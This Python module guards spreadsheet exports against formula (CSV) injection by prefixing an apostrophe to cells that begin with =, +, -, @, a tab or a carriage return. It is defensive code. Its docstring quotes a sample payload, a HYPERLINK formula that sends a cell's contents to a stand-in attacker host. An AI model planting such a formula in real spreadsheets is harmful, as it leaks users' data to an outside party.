"""Cells the application writes into spreadsheets (xlsx and csv exports, the roster's rejected
rows): text a spreadsheet would take for a formula — starting with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return — is written with a leading apostrophe, so that a name such as
``=HYPERLINK("http://evil.example/?d="&C2, "点击")`` stays text (OWASP's CSV-injection advice)."""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral(value: Any) -> Any:
    """``value`` as a cell that cannot run: text starting like a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
